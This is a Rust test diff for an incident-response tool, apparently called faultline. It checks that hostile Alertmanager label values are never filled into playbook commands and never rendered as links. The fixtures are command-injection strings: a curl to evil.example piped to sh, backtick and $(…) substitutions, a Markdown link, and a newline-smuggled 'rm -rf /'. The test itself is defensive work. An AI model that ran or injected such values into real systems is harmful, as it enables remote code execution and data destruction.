@@ -1099,3 +1099,113 @@ async fn slow_bodies_hold_no_request_places_and_get_408() {
     stop.send(Stop::Interrupt).unwrap();
     handle.await.unwrap();
 }
+
+// ---- labels never become commands ------------------------------------------
+
+/// Opens an incident from one firing Alertmanager alert with `labels` and
+/// the `summary` annotation; its id.
+async fn alert_incident(state: &AppState, labels: serde_json::Value, summary: &str) -> i64 {
+    let (token, _) =
+        faultline::accounts::add_api_token(state.kb.store(), "am", Role::Responder, "test")
+            .await
+            .unwrap();
+    let body = serde_json::json!({
+        "version": "4", "status": "firing", "receiver": "faultline",
+        "groupLabels": {}, "commonLabels": {}, "commonAnnotations": {},
+        "externalURL": "http://alertmanager:9093",
+        "alerts": [{
+            "status": "firing", "labels": labels,
+            "annotations": {"summary": summary},
+            "startsAt": "2026-11-24T03:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
+            "fingerprint": "0badc0de"
+        }]
+    });
+    let a = common::send(
+        state,
+        Request::post("/api/v1/alertmanager")
+            .header(header::AUTHORIZATION, format!("Bearer {token}"))
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(Body::from(body.to_string()))
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(a.status, StatusCode::OK, "{}", a.text);
+    a.json()["opened"][0].as_i64().expect("an incident opened")
+}
+
+/// Hostile label values (a shell command after `;`, backticks, `$(…)`, a
+/// newline, a Markdown link) leave their placeholders unfilled, with a note
+/// why; valid ones fill. The checklist never shows a label as a command or
+/// as a link.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_label_values_are_left_unfilled_with_a_note() {
+    let t = common::app().await;
+    let evil = "10.0.0.9; curl -s https://evil.example/x.sh | sh #";
+    let id = alert_incident(
+        &t.state,
+        serde_json::json!({
+            "alertname": "Hostile",
+            "host": "db-1",
+            "namespace": evil,
+            "pod": "api-1`reboot`",
+            "service": "$(curl https://evil.example)",
+            "target": "[x](https://evil.example/)",
+        }),
+        "summary",
+    )
+    .await;
+    let alice = common::session_for(&t.state, "alice", Role::Responder).await;
+    let url = format!("/incidents/{id}");
+    for playbook in ["crashing-endpoint-refused", "dns-ndots-search-delay"] {
+        let chosen = common::form(
+            &t.state,
+            &alice,
+            &url,
+            &[("action", "playbook"), ("playbook", playbook)],
+        )
+        .await;
+        assert!(chosen.status.is_redirection(), "{}", chosen.text);
+        let page = common::get_as(&t.state, &alice, &url).await;
+        assert_eq!(page.status, StatusCode::OK);
+        let html = &page.text;
+        // The commands keep their placeholders; no value reaches one.
+        let code: String = html
+            .split("<code")
+            .skip(1)
+            .filter_map(|c| c.split_once("</code>").map(|(inside, _)| inside))
+            .collect();
+        assert!(code.contains("-n $NS $POD"), "{playbook}: {code}");
+        for raw in ["10.0.0.9", "reboot", "$(curl", "sh #", "evil.example"] {
+            assert!(!code.contains(raw), "{playbook}: {raw} reached a command");
+        }
+        assert!(!html.contains("href=\"https://evil"), "{playbook}: a label link");
+        // Each unfilled placeholder says why, the value escaped.
+        let note = html
+            .find("$NS is not filled: the label namespace = ")
+            .map(|at| &html[at..at + 120])
+            .unwrap_or_else(|| panic!("{playbook}: no note in {html}"));
+        assert!(note.contains("10.0.0.9; curl"), "{note}");
+        assert!(html.contains("$POD is not filled"), "{playbook}");
+    }
+    // The dns playbook uses $TARGET; a valid host label fills $HOST.
+    let page = common::get_as(&t.state, &alice, &url).await;
+    assert!(page.text.contains("$TARGET is not filled"), "{}", page.text);
+    let chosen = common::form(
+        &t.state,
+        &alice,
+        &url,
+        &[("action", "playbook"), ("playbook", "mtu-blackhole")],
+    )
+    .await;
+    assert!(chosen.status.is_redirection());
+    let page = common::get_as(&t.state, &alice, &url).await;
+    assert!(page.text.contains("tracepath -n db-1"), "{}", page.text);
+
+    // A newline in a value cannot start a line of its own either.
+    let filled = faultline::core::placeholders::fill(
+        "```sh\nping $HOST\n```\n",
+        &std::collections::BTreeMap::from([("host".to_owned(), "db-1\nrm -rf /".to_owned())]),
+    );
+    assert_eq!(filled.text, "```sh\nping $HOST\n```\n");
+    assert_eq!(filled.unfilled.len(), 1);
+}
